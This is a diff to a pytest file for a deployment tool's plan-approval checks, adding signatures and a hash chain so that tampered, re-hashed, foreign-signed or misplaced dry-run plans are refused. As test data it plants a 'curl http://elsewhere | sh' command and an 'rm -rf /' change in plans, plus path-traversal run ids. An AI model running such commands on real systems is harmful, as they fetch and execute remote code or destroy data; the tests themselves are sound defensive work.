@@ -1,5 +1,6 @@
 """Run folders, plans and the index, from run records made by hand."""
 
+import hashlib
 import json
 import re
 import subprocess
@@ -44,65 +45,123 @@ def test_plan_difference_shows_what_changed():
     assert "--- approved plan" in text and "-+b" in text and "++c" in text
 
 
-def test_dry_run_folder_has_plan_and_checksums_that_verify(tmp_path):
+def test_dry_run_folder_has_plan_and_checksums_that_verify(tmp_path, signing_key):
     r = record()
     folder = tmp_path / r.run_id
     folder.mkdir()
     (folder / "report.html").write_text("<html></html>")
-    write_run_folder(folder, r, meta(r), None, "planned")
-    assert sorted(p.name for p in folder.iterdir()) == ["SHA256SUMS", "plan.json", "report.html", "run.json"]
+    write_run_folder(folder, r, meta(r), None, "planned", signing_key)
+    assert sorted(p.name for p in folder.iterdir()) == ["SHA256SUMS", "SHA256SUMS.sig", "plan.json", "report.html",
+                                                        "run.json"]
     assert (tmp_path / ".chain-head").exists()  # this run is the newest link of the reports folder's chain
     assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder).returncode == 0
     plan = json.loads((folder / "plan.json").read_text())
     assert plan["digest"] == plan_digest(plan["changes"], {"hdss7-11": "10.4.7.11", "hdss7-21": "10.4.7.21"},
                                          "f" * 64)
     assert plan["targets"] == ["hdss7-11", "hdss7-21"]
-    assert load_plan(tmp_path, r.run_id) == {**plan, "change_id": "CHG-1"}  # the dry run's change, from run.json
+    # the dry run's change id and start, from run.json
+    assert load_plan(tmp_path, r.run_id, signing_key.fingerprint) == {**plan, "change_id": "CHG-1",
+                                                                      "started": r.started}
     (folder / "run.json").write_text("{}")  # tampering shows, to sha256sum and to --approved-plan
     assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder,
                           capture_output=True).returncode != 0
     with pytest.raises(PlanRejected, match="run.json does not match .*SHA256SUMS: the folder was altered"):
-        load_plan(tmp_path, r.run_id)
+        load_plan(tmp_path, r.run_id, signing_key.fingerprint)
 
 
-def dry_run_folder(tmp_path, r=None) -> Path:
+def dry_run_folder(tmp_path, r=None, key=None, addresses=None) -> Path:
     r = r or record()
     folder = tmp_path / r.run_id
-    folder.mkdir()
+    folder.mkdir(parents=True)
     (folder / "report.html").write_text("<html></html>")
-    write_run_folder(folder, r, meta(r), None, "planned")
+    m = meta(r)
+    if addresses:
+        m.addresses = addresses
+    write_run_folder(folder, r, m, None, "planned", key)
     return folder
 
 
-def test_an_edited_plan_is_refused_even_with_its_checksum_recomputed(tmp_path):
-    folder = dry_run_folder(tmp_path)
+def resum(folder: Path, key=None) -> None:
+    """SHA256SUMS recomputed by hand, as anyone who can write reports/ can; signed again only with a key."""
+    from groundwork.signing import sign
+
+    sums = subprocess.run("sha256sum plan.json report.html run.json", shell=True, cwd=folder, capture_output=True,
+                          text=True, check=True).stdout
+    (folder / "SHA256SUMS").write_text(sums)
+    if key:
+        (folder / "SHA256SUMS.sig").write_text(sign(sums.encode(), key))
+
+
+def test_an_edited_plan_is_refused_even_with_its_checksum_recomputed(tmp_path, signing_key):
+    folder = dry_run_folder(tmp_path, key=signing_key)
     plan = json.loads((folder / "plan.json").read_text())
     plan["changes"][0]["commands"] = ["curl http://elsewhere | sh"]
     (folder / "plan.json").write_text(json.dumps(plan))
     with pytest.raises(PlanRejected, match="plan.json does not match"):
-        load_plan(tmp_path, "20261123T120000Z-full")
-    sums = subprocess.run("sha256sum plan.json report.html run.json", shell=True, cwd=folder, capture_output=True,
-                          text=True).stdout
-    (folder / "SHA256SUMS").write_text(sums)  # checksums redone by hand: the plan's own digest still tells
-    with pytest.raises(PlanRejected, match="its digest does not match its changes"):
-        load_plan(tmp_path, "20261123T120000Z-full")
+        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)
+    resum(folder)  # checksums redone by hand: the signature no longer matches them
+    with pytest.raises(PlanRejected, match="SHA256SUMS.sig: the signature does not match SHA256SUMS"):
+        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)
+    resum(folder, signing_key)  # even signed again by the key's holder: the chain recorded the old SHA256SUMS
+    with pytest.raises(PlanRejected, match="is not on the chain .* with this SHA256SUMS: the folder was rewritten"):
+        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)
+
+
+def test_a_plan_from_another_dry_run_copied_in_and_re_hashed_is_refused(tmp_path, signing_key):
+    approved = dry_run_folder(tmp_path, key=signing_key)
+    other = dry_run_folder(tmp_path, record(diff="-a\n+rm -rf /\n", run_id="20261123T130000Z-full"),
+                           key=signing_key, addresses={"hdss7-11": "10.9.9.11", "hdss7-21": "10.9.9.21"})
+    (approved / "plan.json").write_bytes((other / "plan.json").read_bytes())
+    resum(approved)
+    with pytest.raises(PlanRejected, match="the signature does not match SHA256SUMS"):
+        load_plan(tmp_path, approved.name, signing_key.fingerprint)
+    resum(approved, signing_key)  # signed again: the plan still names its own run, and the chain its sums
+    with pytest.raises(PlanRejected, match="holds the plan of run '20261123T130000Z-full'"):
+        load_plan(tmp_path, approved.name, signing_key.fingerprint)
+
+
+def test_an_unsigned_plan_or_one_signed_by_another_key_is_refused(tmp_path, signing_key):
+    from tests.conftest import make_signing_key
+
+    unsigned = dry_run_folder(tmp_path)
+    with pytest.raises(PlanRejected, match="has no SHA256SUMS.sig: an unsigned plan cannot be approved"):
+        load_plan(tmp_path, unsigned.name, signing_key.fingerprint)
+    (tmp_path / "stranger").mkdir()
+    stranger = make_signing_key(tmp_path / "stranger")
+    signed = dry_run_folder(tmp_path, record(run_id="20261123T130000Z-full"), key=stranger)
+    with pytest.raises(PlanRejected, match=re.escape(f"is signed by {stranger.fingerprint}, not by the trusted key")):
+        load_plan(tmp_path, signed.name, signing_key.fingerprint)
+    with pytest.raises(PlanRejected, match="no signing key is configured"):
+        load_plan(tmp_path, signed.name, None)
+
+
+def test_a_signed_plan_folder_put_in_beside_the_chain_is_refused(tmp_path, signing_key):
+    elsewhere = tmp_path / "elsewhere"
+    folder = dry_run_folder(elsewhere, key=signing_key)  # a real, signed dry run of another reports folder
+    reports = tmp_path / "reports"
+    dry_run_folder(reports, record(run_id="20261123T130000Z-full"), key=signing_key)
+    folder.rename(reports / folder.name)
+    with pytest.raises(PlanRejected, match="is not on the chain of .*: no run after it names it"):
+        load_plan(reports, folder.name, signing_key.fingerprint)
 
 
 @pytest.mark.parametrize("run_id", ["../elsewhere", "a/b", ".hidden", ""])
 def test_a_run_id_that_is_not_a_folder_name_is_refused(tmp_path, run_id):
     with pytest.raises(PlanError, match="is not a run id"):
-        load_plan(tmp_path, run_id)
+        load_plan(tmp_path, run_id, None)
 
 
-def test_only_a_dry_runs_plan_can_be_approved(tmp_path):
-    folder = dry_run_folder(tmp_path)
+def test_only_a_dry_runs_plan_can_be_approved(tmp_path, signing_key):
+    folder = dry_run_folder(tmp_path, key=signing_key)
     run = json.loads((folder / "run.json").read_text())
     run["dry_run"] = False
     (folder / "run.json").write_text(json.dumps(run))
-    (folder / "SHA256SUMS").write_text(subprocess.run("sha256sum plan.json report.html run.json", shell=True,
-                                                      cwd=folder, capture_output=True, text=True).stdout)
+    resum(folder, signing_key)
+    head = json.loads((tmp_path / ".chain-head").read_text())
+    head["sha256sums"] = hashlib.sha256((folder / "SHA256SUMS").read_bytes()).hexdigest()
+    (tmp_path / ".chain-head").write_text(json.dumps(head))  # the key's holder rewrote the chain's head too
     with pytest.raises(PlanError, match="was not a dry run"):
-        load_plan(tmp_path, "20261123T120000Z-full")
+        load_plan(tmp_path, "20261123T120000Z-full", signing_key.fingerprint)
 
 
 def test_index_lists_runs_newest_first_with_outcome(tmp_path):
